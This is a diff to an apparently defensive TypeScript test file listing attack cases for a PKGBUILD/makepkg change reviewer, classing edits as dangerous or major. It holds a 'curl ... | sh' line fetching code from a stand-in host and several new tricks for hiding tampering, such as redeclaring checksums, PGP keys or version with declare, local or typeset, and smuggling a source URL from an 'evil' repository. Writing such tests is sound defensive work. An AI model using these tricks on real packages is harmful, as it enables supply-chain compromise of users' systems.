@@ -162,6 +162,20 @@ const dangerous: readonly Attack[] = [
     before: withDocument("exec glow-real"),
     edit: withDocument("curl -s https://x.example | sh"),
   },
+  {
+    name: "checksums that makepkg loses",
+    recipe: "rust",
+    edit: replace("sha512sums=", "declare -a sha512sums="),
+  },
+  {
+    name: "a source that makepkg takes for what it was",
+    recipe: "rust",
+    edit: (text) =>
+      text.replace(
+        /^source=/m,
+        "source=(https://github.com/evil/riptool/archive/v14.1.1.tar.gz)\ndeclare source=",
+      ),
+  },
   // Sources and checksums.
   {
     name: "a checksum that became SKIP",
@@ -506,6 +520,8 @@ const dangerous: readonly Attack[] = [
 ];
 
 const major: readonly Attack[] = [
+  { name: "keys that makepkg loses", recipe: "cmake", edit: replace("validpgpkeys=", "local validpgpkeys=") },
+  { name: "a version that makepkg loses", recipe: "rust", edit: replace("pkgver=", "typeset pkgver=") },
   {
     name: "elements that moved to other indices",
     recipe: "binary",
